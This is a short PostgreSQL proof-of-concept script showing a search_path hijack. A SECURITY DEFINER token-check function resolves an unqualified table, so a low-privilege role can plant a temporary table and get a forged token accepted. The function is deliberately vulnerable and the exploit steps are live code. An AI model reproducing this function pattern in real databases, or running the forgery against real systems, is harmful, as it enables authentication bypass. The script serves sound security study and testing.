-- "$user" in a path is a schema that is named after whoever calls, or after the owner.
--- finds definer on public.is_known_token
--- patch as superuser
CREATE FUNCTION public.is_known_token(token text) RETURNS boolean
    LANGUAGE plpgsql SECURITY DEFINER
    SET search_path = "$user", public
AS $$ BEGIN RETURN EXISTS (SELECT FROM admin_tokens WHERE id = token); END $$;
REVOKE EXECUTE ON FUNCTION public.is_known_token(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION public.is_known_token(text) TO pawl_sts;
--- leaks as pawl_sts
CREATE TEMP TABLE admin_tokens AS SELECT 'forged'::text AS id;
GRANT SELECT ON admin_tokens TO PUBLIC;
SELECT FROM public.is_known_token('forged') AS known WHERE known;
